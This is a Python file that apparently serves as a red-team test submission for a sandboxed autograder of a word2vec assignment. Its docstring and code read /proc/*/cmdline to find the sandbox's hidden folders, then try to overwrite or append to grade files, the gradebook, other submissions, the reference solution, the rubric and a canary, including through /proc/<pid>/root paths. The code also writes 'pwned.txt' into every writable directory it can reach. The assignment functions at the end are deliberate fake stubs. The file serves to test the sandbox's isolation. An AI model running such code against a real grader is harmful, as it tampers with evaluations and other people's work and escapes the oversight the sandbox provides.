"""REDTEAM damage_write_everywhere: write into the results, the submissions and the repo.

Attack: learn the hidden folders' paths from /proc/*/cmdline (bubblewrap's own command
line names them), then try to create, overwrite and append to files there and in every
directory it can find: the results folder, other submissions, the gradebook, the
reference, the rubric, the parent of the results (a canary lives there), through
/proc/<pid>/root and /proc/<pid>/cwd as well as directly.
Bound: the baseline, and no file outside its own scratch folder changes.
"""
import os

import numpy as np

MARK = b"REDTEAM damage_write_everywhere was here\n"
targets = set()
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            args = f.read().split(b"\0")
    except OSError:
        continue
    for a in args:
        if a.startswith(b"/") and not a.startswith((b"/usr", b"/proc", b"/dev", b"/sandbox", b"/etc")):
            p = a.decode(errors="replace")
            targets.update({p, os.path.dirname(p), os.path.dirname(os.path.dirname(p))})
written = []
for t in sorted(targets):
    for prefix in ("", "/proc/1/root", "/proc/2/root", "/proc/1/cwd/..", "/proc/self/root"):
        d = prefix + t
        for name in ("canary.txt", "grades.csv", "summary.html", "gradebook.sqlite", "honest_cs224d.py",
                     "honest_cs224d/result.json", "reference/word2vec.py", "rubrics/word2vec.toml", "pwned.txt"):
            for mode in ("ab", "wb"):
                try:
                    with open(os.path.join(d, name), mode) as f:
                        f.write(MARK)
                    written.append(os.path.join(d, name))
                except OSError:
                    pass
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    try:
        with open(os.path.join(root, "pwned.txt"), "ab") as f:
            f.write(MARK)
        written.append(root)
    except OSError:
        pass
print("REDTEAM targets", sorted(targets)[:10], "written", written[:10])


def softmax(x):
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)

